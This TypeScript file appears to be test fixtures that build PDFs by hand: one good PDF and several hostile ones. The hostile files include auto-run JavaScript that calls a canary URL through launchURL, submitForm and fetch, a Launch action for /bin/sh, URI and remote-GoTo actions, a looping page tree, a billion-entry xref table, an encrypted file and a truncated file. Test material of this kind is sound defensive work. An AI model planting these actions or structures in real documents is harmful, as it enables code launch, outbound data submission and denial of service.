// PDF files written by hand: a good one, and ones that act, loop, lie about their size or are shut.
import type { Hostile } from "./html";

/** Objects of a PDF, the first of number 1, as a file with a right table of where they are. */
export function pdfOf(objects: string[], trailer = "/Root 1 0 R"): Uint8Array {
  let text = "%PDF-1.7\n";
  const places = objects.map((object, index) => {
    const at = text.length;
    text += `${index + 1} 0 obj\n${object}\nendobj\n`;
    return at;
  });
  const start = text.length;
  const rows = places.map((at) => `${String(at).padStart(10, "0")} 00000 n \n`).join("");
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`;
  text += `trailer\n<< /Size ${objects.length + 1} ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.from(text, "latin1");
}

const FONT = "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>";

function stream(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** A document with a line of text on each of its pages. */
export function goodPdf(lines: string[]): Uint8Array {
  const kids = lines.map((_, index) => `${4 + index * 2} 0 R`).join(" ");
  const pages = lines.flatMap((line, index) => [
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Resources << /Font << /F1 3 0 R >> >> /Contents ${5 + index * 2} 0 R >>`,
    stream(`BT /F1 24 Tf 40 200 Td (${line}) Tj ET`),
  ]);
  return pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${kids}] /Count ${lines.length} >>`, FONT, ...pages]);
}

export function hostilePdf(canary: string): Hostile[] {
  const url = (path: string) => `${canary}/pdf-${path}`;
  const page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] /Resources << /Font << /F1 4 0 R >> >> /Contents 5 0 R /Annots [6 0 R] >>";
  const pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
  const words = stream("BT /F1 24 Tf 40 200 Td (Acting) Tj ET");
  const link = (action: string) => `<< /Type /Annot /Subtype /Link /Rect [0 0 400 300] /A ${action} >>`;
  const acting = (name: string, open: string, annotation: string): Hostile => ({
    name: `${name}.pdf`,
    content: pdfOf([`<< /Type /Catalog /Pages 2 0 R ${open} >>`, pages, page, FONT, words, annotation]),
  });
  const script = `app.launchURL("${url("script")}"); this.submitForm("${url("submit")}"); fetch("${url("fetch")}")`;
  const literal = script.replaceAll("(", "\\(").replaceAll(")", "\\)");
  return [
    acting("javascript", `/OpenAction << /S /JavaScript /JS (${literal}) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${literal}) >>] >> >>`, link(`<< /S /JavaScript /JS (${literal}) >>`)),
    acting("launch", "/OpenAction << /S /Launch /F (/bin/sh) >>", link("<< /S /Launch /F (/bin/sh) >>")),
    acting("uri", `/OpenAction << /S /URI /URI (${url("open")}) >>`, link(`<< /S /URI /URI (${url("uri")}) >>`)),
    acting("goto", `/OpenAction << /S /GoToR /F << /FS /URL /F (${url("goto")}) >> /D [0 /Fit] >>`, link(`<< /S /SubmitForm /F << /FS /URL /F (${url("form")}) >> >>`)),
    // Its tree of pages is a ring, and it claims a thousand million of them.
    { name: "pages.pdf", content: pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 1000000000 >>", "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 2 0 R 2 0 R] /Count 999999999 >>"]) },
    // Its table claims a thousand million objects at a place where there are none.
    { name: "table.pdf", content: "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\nxref\n0 1000000000\n0000000000 65535 f \ntrailer\n<< /Size 1000000000 /Root 1 0 R /Prev 9 >>\nstartxref\n61\n%%EOF" },
    { name: "shut.pdf", content: pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", pages, page, FONT, words, link("<< >>")], `/Root 1 0 R /ID [<00112233445566778899aabbccddeeff> <00112233445566778899aabbccddeeff>] /Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <${"41".repeat(32)}> /U <${"42".repeat(32)}> >>`) },
    { name: "cut.pdf", content: "%PDF-1.7\n1 0 obj\n<< /Type /Catalog" },
  ];
}
